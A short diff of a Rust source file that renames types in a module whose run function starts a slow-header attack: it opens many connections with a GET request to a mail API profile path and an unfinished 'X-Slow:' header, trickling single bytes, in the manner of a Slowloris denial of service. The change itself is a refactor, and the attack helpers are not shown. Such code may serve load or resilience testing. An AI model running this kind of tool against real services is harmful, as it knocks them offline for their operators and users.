@@ -3,12 +3,15 @@
 use std::sync::Arc;
 
 use super::connection::head;
-use super::scene::Scene;
-use super::slow::{self, Slow};
+use super::scene::AttackContext;
+use super::slow::{self, SlowConnections};
 
 /// Runs the attack until it is over.
-pub async fn run(scene: &Arc<Scene>) -> anyhow::Result<()> {
+pub async fn run(scene: &Arc<AttackContext>) -> anyhow::Result<()> {
     let opening = head("GET", "/mail/v1/users/me/profile", None, "X-Slow: ");
-    slow::run_all(scene, vec![Slow { name: "heads", connections: scene.orders.connections, opening, piece: b"x" }])
-        .await
+    slow::run_all(
+        scene,
+        vec![SlowConnections { name: "heads", connections: scene.orders.connections, opening, chunk: b"x" }],
+    )
+    .await
 }
